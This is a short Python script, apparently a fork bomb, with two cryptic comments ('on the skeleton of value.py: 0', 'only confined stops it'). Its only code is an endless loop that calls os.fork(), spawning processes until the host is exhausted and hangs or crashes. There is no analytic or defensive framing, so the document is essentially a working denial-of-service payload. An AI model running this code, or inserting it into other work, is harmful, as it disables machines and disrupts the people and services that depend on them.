# on the skeleton of value.py: 0
# only confined stops it
import os

while True:
    os.fork()
